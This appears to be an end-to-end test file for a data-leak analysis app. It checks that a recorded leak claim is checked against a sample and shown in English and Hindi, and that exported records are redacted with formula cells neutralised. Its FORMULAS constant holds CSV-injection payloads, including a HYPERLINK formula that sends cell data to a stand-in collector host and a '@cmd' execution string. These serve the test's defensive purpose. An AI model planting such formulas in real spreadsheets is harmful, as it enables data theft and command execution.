// Claims and the redacted export in the app (issue #16, problem 7). A claim is recorded beside the verdict
// and checked at once (claimed count against found, claimed fields against the inferred columns), logged,
// and shown in English and Hindi. An item's records are exported redacted (a dialog opened from the records'
// header) to a folder the host's picker returns: the file holds no raw Aadhaar or mobile number, only their
// masked forms, every cell a spreadsheet would run as a formula is made plain text, and the SHA-256 the
// screen shows is the file's.
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { openCase, type CaseApp } from './support/app-fixtures';
import { hasChromium, needsChromium, repoRoot } from './support/paths';
import { HEADER, personAt } from './support/people-csv';
import { e2eSuite } from './support/suite';

const ROWS = 240;
// Cells a spreadsheet would run: each starts with one of = + - @ (OWASP's CSV injection list).
const FORMULAS = ['=HYPERLINK("http://collector.example/?"&C2,"open")', '+SUM(1,2)', '-2+3', '@cmd|/c calc'];

const quote = (v: string) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);

let sample = '';
const suite = e2eSuite({
  name: 'claims-export',
  prepare: (dir) => {
    sample = path.join(dir, 'bot_replies.csv');
    const lines = [[...HEADER, 'remarks'].join(',')];
    for (let i = 0; i < ROWS; i++) {
      const p = personAt(i);
      lines.push([p.ref, p.name, p.aadhaar, p.phone, p.email, p.city, String(p.age), FORMULAS[i % FORMULAS.length]!].map(quote).join(','));
    }
    fs.writeFileSync(sample, lines.join('\n') + '\n');
  },
});

const VIEWPORT = { width: 1366, height: 768 };

async function readmeShot(app: CaseApp, name: string): Promise<void> {
  const file = await app.screenshot(name);
  fs.copyFileSync(file, path.join(repoRoot, 'renderer', 'screenshots', `${name}.png`));
}

describe.skipIf(!hasChromium)(needsChromium('claims and redacted export'), () => {
  it('records a claim beside the verdict and exports the records redacted to a picked folder', async () => {
    const chosen = path.join(suite.dir, 'exports-chosen');
    fs.mkdirSync(chosen, { recursive: true });
    const opened: string[] = [];
    const app = suite.track(
      await openCase({
        browser: suite.browser,
        viewport: VIEWPORT,
        pickFolder: async () => chosen,
        openPath: async (d) => void opened.push(d),
        prepare: async (host, caseId, { waitJob }) => waitJob((await host('evidence.import', { caseId, paths: [sample] })).jobId),
      }),
    );
    const { page } = app;

    // ----- The claim, beside the verdict -----
    await page.getByRole('tab', { name: 'Analysis' }).click();
    const panel = page.getByRole('tabpanel', { name: 'Analysis' });
    await panel.getByRole('button', { name: 'Run analysis' }).click();
    const card = panel.getByRole('article', { name: 'bot_replies.csv' });
    await card.waitFor({ timeout: 60_000 });
    const claim = card.getByRole('region', { name: 'Claim' });
    await claim.getByText('No claim recorded for this item.').waitFor();
    await claim.getByRole('button', { name: 'Record claim…' }).click();
    const form = claim.getByRole('form', { name: 'Claim about bot_replies.csv' });
    await form.getByLabel('Claimed source').fill('CoWIN records of residents of one district');
    await form.getByLabel('Claimed number of records (the whole leak)').fill('15,00,00,000');
    await form.getByLabel('Claimed fields').fill('name, aadhaar, phone, passport');
    await form.getByRole('button', { name: 'Save claim' }).click();
    await claim.getByRole('status').filter({ hasText: 'Claim saved and logged in the custody record.' }).waitFor();

    // 240 records against 15 crore claimed; passport is claimed but no column holds it.
    expect(await claim.locator('.claim-records').textContent()).toContain('15,00,00,000 claimed; 240 in the sample');
    expect(await claim.locator('.claim-records .claim-status').textContent()).toBe('Consistent with the sample');
    const fields = await claim.locator('.claim-fields li').allTextContents();
    expect(fields).toHaveLength(4);
    expect(fields[0]).toMatch(/^Present\s*name\s+— found: name/);
    expect(fields[1]).toMatch(/aadhaar\s+— found: aadhaar/);
    expect(fields[2]).toMatch(/phone\s+— found: mobile/);
    expect(fields[3]).toMatch(/^Absent\s*passport\s+— no column of the sample holds it/);
    expect(await claim.locator('.claim-head .claim-status').textContent()).toBe('Contradicted by the sample');
    expect(await claim.locator('.claim-source').textContent()).toContain('“CoWIN records of residents of one district” cannot be confirmed from the sample alone');
    // The verdict is still there, above the claim.
    expect(await card.locator('.verdict-badge').textContent()).toBeTruthy();

    const log = await app.host('custody.log', { caseId: app.caseId });
    expect(log.entries.filter((e) => e.action === 'claim.recorded')).toHaveLength(1);

    await claim.scrollIntoViewIfNeeded();
    await readmeShot(app, 'claims');
    await page.getByRole('button', { name: 'हिन्दी' }).click();
    const claimHi = page.getByRole('tabpanel', { name: 'विश्लेषण' }).getByRole('region', { name: 'दावा' });
    await claimHi.getByText('नमूना इसका खंडन करता है').first().waitFor();
    expect(await claimHi.locator('.claim-records').textContent()).toContain('15,00,00,000 का दावा; नमूने में 240');
    expect(await claimHi.locator('.claim-fields li').last().textContent()).toContain('नमूने के किसी कॉलम में नहीं');
    expect(await claimHi.getByRole('status').textContent()).toBe('दावा सहेजा गया और अभिरक्षा रिकॉर्ड में दर्ज हुआ।');
    await claimHi.scrollIntoViewIfNeeded();
    await readmeShot(app, 'claims-hi');
    await page.getByRole('button', { name: 'English' }).click();

    // Editing: the form opens with what was claimed; without passport nothing in the claim is contradicted.
    await claim.getByRole('button', { name: 'Edit claim…' }).click();
    expect(await form.getByLabel('Claimed fields').inputValue()).toBe('name, aadhaar, phone, passport');
    expect(await form.getByLabel('Claimed number of records (the whole leak)').inputValue()).toBe('150000000');
    await form.getByLabel('Claimed fields').fill('name, aadhaar, phone');
    await form.getByRole('button', { name: 'Save claim' }).click();
    await claim.getByRole('status').filter({ hasText: 'Claim saved' }).waitFor();
    expect(await claim.locator('.claim-head .claim-status').textContent()).toBe('Consistent with the sample');
    expect(await claim.locator('.claim-fields li').count()).toBe(3);
    // A count that is not a number is refused in the form, and nothing is recorded.
    await claim.getByRole('button', { name: 'Edit claim…' }).click();
    await form.getByLabel('Claimed number of records (the whole leak)').fill('15 crore');
    await form.getByRole('button', { name: 'Save claim' }).click();
    await form.getByRole('alert').filter({ hasText: 'must be a whole number' }).waitFor();
    await form.getByRole('button', { name: 'Cancel' }).click();
    const claimsLogged = (await app.host('custody.log', { caseId: app.caseId })).entries.filter((e) => e.action === 'claim.recorded');
    expect(claimsLogged).toHaveLength(2);

    // ----- The redacted export, from the records' header -----
    await page.getByRole('tab', { name: 'Evidence' }).click();
    const evidence = page.getByRole('tabpanel', { name: 'Evidence' });
    await evidence.locator('.evidence-list tbody tr', { hasText: 'bot_replies.csv' }).click();
    await evidence.getByRole('button', { name: 'Export redacted…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Redacted export' });
    const exp = dialog.getByRole('region', { name: 'Redacted export' });
    await exp.getByRole('button', { name: 'Choose folder and export…' }).click();
    const result = exp.getByRole('region', { name: 'Export written and logged' });
    await result.waitFor({ timeout: 30_000 });
    const fileName = (await result.locator('.redacted-export-file').textContent())!.split(' (')[0]!.trim();
    expect(fileName).toBe('bot_replies-redacted.csv');
    expect(await result.locator('.redacted-export-dir').textContent()).toBe(chosen);
    const out = path.join(chosen, fileName);
    const bytes = fs.readFileSync(out);
    expect(await result.locator('.redacted-export-sha256').textContent()).toBe(createHash('sha256').update(bytes).digest('hex'));

    const text = bytes.toString('utf8');
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(rows).toHaveLength(ROWS + 1);
    for (let i = 0; i < ROWS; i++) {
      const p = personAt(i);
      const digits = p.aadhaar.replace(/ /g, '');
      // No raw Aadhaar (with or without spaces) or mobile number anywhere; the masked forms in their place.
      expect(text).not.toContain(p.aadhaar);
      expect(text).not.toContain(digits);
      expect(text).not.toContain(p.phone);
      expect(rows[i + 1]![2]).toBe(`XXXX XXXX ${digits.slice(8)}`);
      expect(rows[i + 1]![3]).toBe(`XXXXXX${p.phone.slice(6)}`);
      // The formula cell is text: a leading apostrophe before the = + - @ it started with.
      expect(rows[i + 1]![7]).toBe(`'${FORMULAS[i % FORMULAS.length]}`);
    }
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const exported = (await app.host('custody.log', { caseId: app.caseId })).entries.filter((e) => e.action === 'export.created');
    expect(exported).toHaveLength(1);
    expect(exported[0]!.summary).toContain('Redacted csv export');

    await result.getByRole('button', { name: 'Open folder' }).click();
    await expect.poll(() => opened).toEqual([chosen]);
    expect(await page.content()).not.toContain(personAt(0).phone);

    await readmeShot(app, 'redacted-export');
    // Closed and opened again (here in Hindi), the dialog shows the last export of the item once more.
    await dialog.getByRole('button', { name: 'Close' }).first().click();
    await dialog.waitFor({ state: 'detached' });
    await page.getByRole('button', { name: 'हिन्दी' }).click();
    await page.getByRole('tabpanel', { name: 'साक्ष्य' }).getByRole('button', { name: 'छिपाकर निर्यात करें…' }).click();
    const expHi = page.getByRole('dialog', { name: 'छिपाया हुआ निर्यात' });
    await expHi.getByRole('region', { name: 'निर्यात लिखा गया और दर्ज हुआ' }).waitFor();
    await expHi.getByRole('button', { name: 'फ़ोल्डर खोलें' }).waitFor();
    await readmeShot(app, 'redacted-export-hi');
  }, 240_000);
});
